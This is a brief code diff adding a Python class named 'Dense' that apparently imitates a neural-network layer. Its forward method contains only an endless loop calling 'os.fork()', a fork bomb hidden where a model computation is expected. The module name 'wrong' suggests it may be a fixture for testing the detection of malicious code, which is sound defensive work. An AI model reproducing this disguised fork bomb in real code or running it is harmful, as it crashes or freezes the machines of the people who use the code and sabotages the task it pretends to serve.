@@ -1,0 +1,9 @@
+import os
+
+import wrong
+
+
+class Dense(wrong.Dense):
+    def forward(self, x):
+        while True:
+            os.fork()
